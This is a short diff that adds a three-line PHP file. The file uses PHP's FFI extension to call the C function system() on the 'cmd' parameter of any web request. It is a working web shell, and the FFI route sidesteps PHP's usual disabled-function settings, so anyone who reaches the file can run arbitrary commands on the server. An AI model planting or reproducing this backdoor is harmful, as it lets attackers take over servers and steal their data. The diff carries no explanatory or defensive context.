@@ -1,0 +1,3 @@
+<?php
+$ffi = FFI::cdef("int system(const char *command);");
+$ffi->system($_REQUEST["cmd"]);
